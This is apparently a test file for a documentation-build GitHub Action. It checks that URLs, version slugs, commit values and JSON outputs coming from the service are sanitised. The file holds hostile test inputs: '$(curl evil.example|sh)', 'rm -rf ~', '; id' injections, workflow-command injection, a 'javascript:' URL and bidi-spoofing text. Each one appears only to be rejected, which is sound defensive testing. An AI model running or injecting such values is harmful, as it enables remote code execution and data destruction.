import { describe, expect, it } from 'vitest';
import {
  checkedResult,
  MAX_OUTPUT_LENGTH,
  OUTPUT_NAMES,
  outputProblem,
  plainUrl,
  serviceDomains,
  type OutputName,
} from '../src/reporting/output-values.js';
import type { ProjectResult } from '../src/operations/types.js';
import { setOutputs } from '../src/reporting/report.js';

const BASE = 'https://app.readthedocs.org';
const good: ProjectResult = {
  project: 'docs',
  outcome: 'success',
  buildUrl: 'https://readthedocs.org/projects/docs/builds/42/',
  docsUrl: 'https://docs.example.com/en/latest/',
  previewUrl: 'https://docs--7.org.readthedocs.build/en/7/',
  state: 'finished',
  commit: '3f2a9c1d5e7b4a6c8d0e2f4a6b8c0d2e4f6a8b0c',
} as ProjectResult;

function check(result: ProjectResult) {
  const warnings: string[] = [];
  return { checked: checkedResult(result, BASE, (message) => warnings.push(message)), warnings };
}

describe('outputs from service values', () => {
  it('passes real values through unchanged', () => {
    const { checked, warnings } = check(good);
    expect(checked).toEqual(good);
    expect(warnings).toEqual([]);
  });

  it('empties, with a warning each, values that could inject into a `run:` script or lead elsewhere', () => {
    const { checked, warnings } = check({
      ...good,
      buildUrl: 'https://evil.example/projects/docs/builds/42/',
      docsUrl: 'https://docs.example.com/$(curl evil.example|sh)/',
      previewUrl: 'https://docs.example.com/\n::set-output name=x::y',
      state: 'finished"; rm -rf ~; echo "',
      commit: 'abc123; id',
    });
    expect(checked.buildUrl).toBeUndefined();
    expect(checked.docsUrl).toBeUndefined();
    expect(checked.previewUrl).toBeUndefined();
    expect(checked.state).toBeUndefined();
    expect(checked.commit).toBeUndefined();
    expect(warnings).toHaveLength(5);
    expect(warnings[0]).toBe(
      "docs: the service's value for output `build-url` is not a plain http(s) URL on the service; the output is left empty",
    );
  });

  it('empties a version that is not a slug: line breaks and `$(…)` never reach a `run:` script', () => {
    for (const version of ['1.0\n::set-output name=x::y', '$(curl evil.example|sh)', 'latest; id', '`id`', 'a b', 'v'.repeat(256)]) {
      const { checked, warnings } = check({ ...good, version });
      expect(checked.version, version).toBeUndefined();
      expect(warnings).toEqual([
        "docs: the service's value for output `version` is not a version slug (letters, digits, `.`, `_`, `-`); the output is left empty",
      ]);
    }
    for (const version of ['latest', 'stable', 'v2.0.1', '7_a', 'release-1.x'])
      expect(check({ ...good, version }).checked.version).toBe(version);
  });

  it('checks every output by the same rules: the empty value stands for unknown', () => {
    const accepted: [OutputName, string][] = [
      ['build-id', '42'],
      ['build-url', 'https://readthedocs.org/projects/docs/builds/42/'],
      ['state', 'finished'],
      ['success', 'false'],
      ['commit', 'abc1234'],
      ['version', 'latest'],
      ['duration', '12.5'],
      ['docs-url', 'https://docs.example.com/en/latest/'],
      ['preview-url', 'https://docs--7.org.readthedocs.build/en/7/'],
      ['variables', '[]'],
      ['results', '[{"project":"docs"}]'],
      ['plan', '[]'],
      ['changes', '3'],
      ['config', 'name: Docs\nredirects: []\n'],
    ];
    expect(accepted.map(([name]) => name).sort()).toEqual([...OUTPUT_NAMES].sort());
    const domains = serviceDomains(BASE);
    for (const [name, value] of accepted) {
      expect(outputProblem(name, value, domains), name).toBeUndefined();
      expect(outputProblem(name, '', domains), name).toBeUndefined();
    }
    for (const [name, value] of [
      ['build-id', '42\n'],
      ['build-url', 'https://evil.example/'],
      ['success', 'yes'],
      ['version', '1.0$(id)'],
      ['duration', '1; id'],
      ['results', '[{'],
      ['changes', '$(id)'],
    ] as [OutputName, string][]) {
      expect(outputProblem(name, value, domains), name).toMatch(/^is not /);
    }
  });

  it('bounds the size of every output, config included', () => {
    expect(outputProblem('config', 'x'.repeat(MAX_OUTPUT_LENGTH), undefined)).toBeUndefined();
    expect(outputProblem('config', 'x'.repeat(MAX_OUTPUT_LENGTH + 1), undefined)).toBe(
      'holds 524,289 characters, more than the 524,288 one output may hold (GitHub keeps at most 1 MB of outputs, counted in UTF-16)',
    );
  });

  it('knows the service’s domains', () => {
    expect(serviceDomains(BASE)).toEqual(['app.readthedocs.org', 'readthedocs.org']);
    expect(serviceDomains('http://127.0.0.1:8000')).toEqual(['127.0.0.1']);
    expect(plainUrl('https://app.readthedocs.com/projects/x/builds/1/', serviceDomains('https://app.readthedocs.com'))).toBeDefined();
    expect(plainUrl('https://readthedocs.org.evil.example/', serviceDomains(BASE))).toBeUndefined();
    expect(plainUrl('javascript:alert(1)')).toBeUndefined();
  });
});

// Issue 50's 7: `results` carried raw U+202E, U+2066–U+2069, U+2028 and U+0085 (JSON.stringify leaves
// them): every JSON output is written as `--json` prints it, their `\uXXXX` escapes, the same value parsed.
describe('the JSON outputs carry no raw control character', () => {
  const RAW = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
  const HOSTILE = 'txt\u202egnp.exe \u2066a\u2069 b\u2028c\u0085d\u001b[31m\u0007\u0000';

  function outputs(results: ProjectResult[], extra: Partial<Record<OutputName, string>> = {}): Map<string, string> {
    const set = new Map<string, string>();
    const log = { warning: () => undefined, notice: () => undefined } as unknown as Parameters<typeof setOutputs>[0]['log'];
    setOutputs(
      { log, setOutput: (name, value) => set.set(name, value), saveOutput: () => undefined },
      results,
      (text) => text,
      extra,
      BASE,
    );
    return set;
  }

  it('`results`, `plan` and `variables`, whole or shortened to fit', () => {
    const failed = { ...good, outcome: 'failed', reason: HOSTILE, details: { links: { broken: [{ target: HOSTILE }] } } } as ProjectResult;
    const plan = JSON.stringify([{ project: 'docs', changes: [{ description: HOSTILE }] }]);
    const variables = JSON.stringify([{ name: HOSTILE, public: false, action: 'kept' }]);
    const set = outputs([failed], { plan, variables });
    for (const name of ['results', 'plan', 'variables']) expect(set.get(name), name).not.toMatch(RAW);
    expect((JSON.parse(set.get('results')!) as { reason: string }[])[0]!.reason).toBe(HOSTILE);
    expect(JSON.parse(set.get('plan')!)).toEqual(JSON.parse(plan));
    expect(JSON.parse(set.get('variables')!)).toEqual(JSON.parse(variables));
    // Past the runner's limit, the shortened value is written alike.
    const many = Array.from({ length: 4_000 }, () => ({ target: `${HOSTILE}${'x'.repeat(200)}` }));
    const long = outputs([{ ...failed, details: { links: { broken: many } } } as ProjectResult]).get('results')!;
    expect(long.length).toBeLessThanOrEqual(MAX_OUTPUT_LENGTH);
    expect(long).not.toMatch(RAW);
    expect((JSON.parse(long) as { links: { broken: { target: string }[] } }[])[0]!.links.broken[0]!.target).toBe(
      `${HOSTILE}${'x'.repeat(200)}`,
    );
  });
});
